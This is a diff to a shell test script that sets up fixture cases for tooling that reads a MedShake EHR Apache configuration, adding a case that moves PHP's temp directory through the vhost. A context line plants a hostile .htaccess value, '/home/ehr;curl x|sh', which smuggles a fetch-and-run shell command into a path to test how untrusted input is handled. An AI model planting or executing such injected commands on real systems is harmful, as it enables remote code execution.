@@ -126,6 +126,9 @@ case $CASE in
   # www-data plants shell syntax in the .htaccess.
   htaccess-hostile)
     printf 'SetEnv MEDSHAKEEHRPATH "/home/ehr;curl x|sh"\n' >"$(R $EHR/public_html/.htaccess)" ;;
+  # A php_admin_value in the vhost (through its sites-enabled symlink) moves PHP's temp dir.
+  php-admin-value-vhost)
+    sed -i "s|^    DocumentRoot|    php_admin_value sys_temp_dir /var/tmp/ehr\n    DocumentRoot|" "$(R /etc/apache2/sites-available/msehr.local.conf)" ;;
   # Apache ignores the .htaccess: discovery must too.
   allowoverride-none)
     sed -i 's|AllowOverride all|AllowOverride None|' "$(R /etc/apache2/sites-available/msehr.local.conf)" ;;
